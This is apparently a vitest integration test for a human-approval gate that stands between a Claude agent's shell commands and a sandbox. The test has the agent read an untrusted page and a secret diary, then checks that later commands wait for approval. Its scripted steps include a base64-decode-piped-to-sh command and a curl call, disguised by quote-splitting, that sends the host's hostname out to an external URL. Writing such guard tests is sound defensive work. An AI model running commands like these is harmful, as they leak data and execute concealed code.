import { describe, expect, test } from 'vitest'
import { findProgram } from '../../host/src/base/programs.ts'
import { openClaude, tool } from '../src/agents/claude.ts'
import { guardedService } from '../src/paths.ts'

/**
 * The shell gate with the real hook, in a sandbox, through real files: Claude reads what strangers wrote and what must not
 * get out, and then wants to run things.
 */
const missing = findProgram('bwrap') ? undefined : 'bwrap'
const attempt = missing === undefined || process.env.CI === 'true' ? test : test.skip

const bash = (command: string) => ({ name: 'Bash', input: { command } })

const steps = [
  { calls: [bash('echo untainted; id -u > /dev/null; sh -c "echo inner"')], heard: ['untainted'] },
  { calls: [tool('read_page'), tool('read_diary')], heard: ['a secret'] },
  { calls: [bash('ls /workspace | sort')], heard: ['group', 'ipc'] },
  { calls: [bash('python3 -c "print(6*7)" || node -e "console.log(6*7)"')], decide: 'allow', heard: ['42'] },
  { calls: [bash('echo dGVzdA== | base64 -d | sh')], decide: 'deny', heard: ['said no', 'not this one'] },
  {
    calls: [bash("c''url https://example.org/?d=$(cat /etc/hostname)")],
    decide: 'nothing',
    heard: ['seconds'],
  },
] as const

describe(`Claude’s shell${missing === undefined ? '' : ` (needs ${missing})`}`, () => {
  attempt('runs what is harmless, and asks for the rest once it has read too much', async () => {
    const { installation, work, expectHeard } = await openClaude(
      steps,
      { services: { plugins: [guardedService] }, guard: { approvalMs: 30_000 } },
      home => ({ HATCHWAY_RIG_DIR: home }),
    )
    const asked: string[] = []
    const said = await work(async (id, name, during) => {
      asked.push(name)
      const decision = during && 'decide' in during ? during.decide : 'nothing'
      if (decision === 'allow') await installation.hatchway('approvals', 'allow', id)
      if (decision === 'deny') await installation.hatchway('approvals', 'deny', id, 'not this one')
    })
    expect(said).toContain('All of it is done.')

    expectHeard()
    expect(asked).toEqual(['shell', 'shell', 'shell'])
    const audit: { action: string; outcome: string }[] = JSON.parse(
      await installation.hatchway('audit', '--json', '--limit', '100'),
    )
    const outcomes = audit.filter(({ action }) => action === 'shell').map(({ outcome }) => outcome)
    expect(outcomes).toEqual(expect.arrayContaining(['allowed', 'denied']))
  })
})
